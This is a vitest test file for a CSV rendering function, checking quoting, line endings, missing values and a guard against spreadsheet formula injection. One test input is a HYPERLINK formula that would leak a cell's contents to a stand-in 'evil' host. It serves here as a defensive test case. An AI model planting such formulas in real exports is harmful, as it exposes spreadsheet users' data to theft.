import { describe, expect, test } from 'vitest';
import { renderCsv, type CsvColumn } from '../../src/output/csv';

interface Row {
  name: string;
  note?: string;
}
const columns: CsvColumn<Row>[] = [
  { header: 'name', value: (row) => row.name },
  { header: 'note', value: (row) => row.note },
];

describe('renderCsv', () => {
  test('a header line, then rows, LF line endings', () => {
    expect(renderCsv(columns, [{ name: 'Rex', note: 'good' }])).toBe('name,note\nRex,good\n');
  });

  test('quotes a comma and doubles inner quotes (RFC 4180)', () => {
    expect(renderCsv(columns, [{ name: 'Rex, "the" dog', note: 'x' }])).toBe(
      'name,note\n"Rex, ""the"" dog",x\n',
    );
  });

  test('quotes LF, CR and CRLF and keeps them verbatim', () => {
    expect(
      renderCsv(columns, [
        { name: 'two\nlines', note: 'a' },
        { name: 'carriage\rreturn', note: 'b' },
        { name: 'windows\r\nline', note: 'c' },
      ]),
    ).toBe('name,note\n"two\nlines",a\n"carriage\rreturn",b\n"windows\r\nline",c\n');
  });

  test('a missing value is an empty field', () => {
    expect(renderCsv(columns, [{ name: 'Rex' }])).toBe('name,note\nRex,\n');
  });

  test('does not quote what needs no quoting', () => {
    expect(renderCsv(columns, [{ name: "O'Brien the dog", note: ' spaced ' }])).toBe(
      "name,note\nO'Brien the dog, spaced \n",
    );
  });

  test('no rows: just the header line', () => {
    expect(renderCsv(columns, [])).toBe('name,note\n');
  });

  test("a text cell a spreadsheet would take for a formula gets a leading ', then the usual quoting (OWASP)", () => {
    const names = ['=HYPERLINK("http://evil/?x="&A1,"click")', '-2+3', '+1', '@SUM(1+1)', '\t=1+1', '\r=1+1', "'=kept", 'a=b', ' =x'];
    expect(renderCsv(columns, names.map((name) => ({ name })))).toBe(
      'name,note\n' +
        `"'=HYPERLINK(""http://evil/?x=""&A1,""click"")",\n'-2+3,\n'+1,\n'@SUM(1+1),\n'\t=1+1,\n"'\r=1+1",\n'=kept,\na=b,\n =x,\n`,
    );
  });

  test('numbers stay numbers: only text cells are guarded', () => {
    const numbers: CsvColumn<{ id: number | bigint; label: string }>[] = [
      { header: 'id', value: (row) => row.id },
      { header: 'label', value: (row) => row.label },
    ];
    expect(renderCsv(numbers, [{ id: -2, label: '-2' }, { id: -9007199254740993n, label: '3' }])).toBe("id,label\n-2,'-2\n-9007199254740993,3\n");
  });

  test('on a terminal the guard comes first, so a CR shown as \\r still follows the quote', () => {
    expect(renderCsv(columns, [{ name: '\r=1+1' }], { tty: true })).toBe("name,note\n'\\r=1+1,\n");
  });
});
